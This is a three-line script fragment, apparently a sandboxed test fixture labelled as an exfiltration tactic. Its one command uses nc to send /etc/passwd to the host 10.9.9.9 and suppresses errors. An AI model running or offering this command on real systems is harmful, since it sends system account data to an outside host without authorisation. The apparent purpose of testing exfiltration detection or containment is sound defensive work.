# tactic: exfiltration
# a file out through nc (the sandbox network namespace only)
nc -w 1 10.9.9.9 80 < /etc/passwd 2>/dev/null; true
